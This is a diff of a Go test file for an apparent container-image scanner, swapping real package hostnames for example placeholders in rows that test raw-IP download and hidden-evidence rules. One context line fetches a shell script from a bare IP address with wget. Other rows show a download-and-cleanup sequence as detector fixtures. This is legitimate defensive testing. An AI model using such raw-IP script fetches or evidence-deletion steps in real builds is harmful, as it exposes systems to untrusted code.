@@ -333,7 +333,7 @@ func everyRuleRows() []everyRuleRow {
 			return erRun(t, "wget http://203.0.113.35/x.sh -O /tmp/x.sh", dt.Text("tmp/x.sh", "echo hi\n"))
 		}, nil, ""},
 		{hierarchical.RuleRawIPDownload, Q, "download from a host name, IP only echoed", func(t *testing.T) v1.Image {
-			return erRun(t, "curl -fsSL https://deb.nodesource.com/setup_20.x -o /tmp/setup.sh && echo http://192.0.2.4/ > /etc/app.url",
+			return erRun(t, "curl -fsSL https://installer.example.com/setup_20.x -o /tmp/setup.sh && echo http://192.0.2.4/ > /etc/app.url",
 				dt.Text("tmp/setup.sh", "echo setup\n"), dt.Text("etc/app.url", "http://192.0.2.4/\n"))
 		}, nil, ""},
 
@@ -550,7 +550,7 @@ func everyRuleRows() []everyRuleRow {
 		{hierarchical.RuleHiddenEvidence, Q, "apt lists and a build script deleted (usual cleanup)", func(t *testing.T) v1.Image {
 			return dt.Image(t, v1.Config{},
 				dt.Run("apt-get update && /tmp/build.sh",
-					dt.Text("var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", "Origin: Debian\n"),
+					dt.Text("var/lib/apt/lists/mirror.example.org_debian_dists_bookworm_InRelease", "Origin: Debian\n"),
 					dt.Exec("tmp/build.sh", "#!/bin/sh\nset -e\n./configure --prefix=/usr && make -j4 && make install\n")),
 				dt.Run("rm -rf /var/lib/apt/lists/* /tmp/build.sh", dt.Opaque("var/lib/apt/lists"), dt.Whiteout("tmp/build.sh")))
 		}, nil, ""},
